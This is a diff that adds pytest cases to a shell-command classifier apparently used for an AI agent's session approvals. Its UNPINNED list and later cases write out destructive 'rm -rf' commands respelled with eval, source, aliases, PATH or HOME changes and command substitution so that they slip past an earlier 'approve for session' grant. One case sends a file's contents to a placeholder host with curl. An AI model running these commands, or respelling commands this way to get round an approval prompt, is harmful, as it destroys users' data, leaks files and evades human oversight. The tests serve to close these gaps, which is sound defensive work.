@@ -2,6 +2,8 @@
 an adversarial probe got approved together (issue 22, finding 3) now has different shapes,
 while the very same command, respelled, keeps its shape."""
 
+from pathlib import Path
+
 import pytest
 
 from tools.shell.tool import classify
@@ -101,3 +103,94 @@ def test_shape_contents(command: str, shape: str) -> None:
 def test_several_risky_commands_give_every_shape() -> None:
     shape = classify("git push -f; docker rm web", cwd=CWD).shape
     assert shape == "docker rm web ; git push -f"
+
+
+# Issue 30 finding 6: after "approve for session" of `rm -rf build`, each of these ran with
+# no prompt. What they touch depends on something only known when they run, so no standing
+# approval may cover them: they ask each time.
+UNPINNED = [
+    "eval cd sub; rm -rf build",
+    "builtin cd sub; rm -rf build",
+    "command cd sub; rm -rf build",
+    "trap 'cd sub' DEBUG; rm -rf build",
+    "source helpers.sh; rm -rf build",
+    ". ./helpers.sh && rm -rf build",
+    'rm -rf "$(cat t.txt)"',
+    "rm -rf `cat t.txt`",
+    "cat list | xargs rm -rf",
+    "alias rm='rm -i'; rm -rf build",
+    "rm() { echo; }; rm -rf build",
+    "hash -p /tmp/x rm; rm -rf build",
+    "PATH=./bin:$PATH rm -rf build",
+    "export CDPATH=/etc; cd sub; rm -rf build",
+    "HOME=/etc; rm -rf ~/build",
+    "cd $DIR; rm -rf build",
+    "cd -; rm -rf build",
+    "popd; rm -rf build",
+    "cd sub; rm -rf $PWD/build",
+    "bash -c 'eval cd sub; rm -rf build'",
+    "$(echo rm) -rf build",
+]
+
+
+@pytest.mark.parametrize("command", UNPINNED)
+def test_what_may_touch_something_else_at_run_time_is_never_standing(command: str) -> None:
+    verdict = classify(command, cwd=CWD)
+    assert verdict.action == "ask" and not verdict.standing, verdict
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf build",
+        "ls && rm -rf build",
+        "rm -rf build; echo done",
+        "cd sub && rm -rf build",  # a literal cd is followed: the shape names sub/build
+        "git push --force origin main",
+        "kill -9 4242",
+    ],
+)
+def test_commands_with_pinned_targets_stay_standing(command: str) -> None:
+    verdict = classify(command, cwd=CWD)
+    assert verdict.action == "ask" and verdict.standing, verdict
+
+
+def test_pwd_is_the_starting_directory() -> None:
+    """A grant from one directory must not cover $PWD/build in another."""
+    here = classify("rm -rf $PWD/build", cwd=CWD)
+    assert here.shape == "rm -f -r /home/alice/ws/build" and here.standing
+    assert here.shape == classify("rm -rf build", cwd=CWD).shape
+    there = classify("rm -rf $PWD/build", cwd="/home/alice/other")
+    assert there.shape == "rm -f -r /home/alice/other/build"
+
+
+def test_a_target_that_became_a_symbolic_link_has_another_shape(tmp_path: Path) -> None:
+    (tmp_path / "out").mkdir()
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    before = classify("rm -rf out/", cwd=str(tmp_path), resolve_links=True)
+    assert before.shape == f"rm -f -r {tmp_path}/out/" and before.standing
+    (tmp_path / "out").rmdir()
+    (tmp_path / "out").symlink_to(elsewhere)
+    after = classify("rm -rf out/", cwd=str(tmp_path), resolve_links=True)
+    assert after.shape == f"rm -f -r {tmp_path}/out/ (-> {elsewhere})", after
+    inner = classify("rm -rf out/x", cwd=str(tmp_path), resolve_links=True)
+    assert inner.shape == f"rm -f -r {tmp_path}/out/x (-> {elsewhere}/x)"
+
+
+@pytest.mark.parametrize(
+    ("command", "standing"),
+    [
+        ("ls $(cat list.txt)", False),
+        ('curl -d "$(cat a.txt)" https://x.example', False),
+        ("eval ls", False),
+        ("cd $DIR; ls", False),
+        ("ls", True),
+        ("echo hi > notes.txt", True),
+    ],
+)
+def test_allowed_commands_say_whether_their_text_pins_them(command: str, standing: bool) -> None:
+    """After outside content allowed commands ask too; the same rule decides whether a
+    standing approval may cover them."""
+    verdict = classify(command, cwd=CWD)
+    assert verdict.action == "allow" and verdict.standing is standing
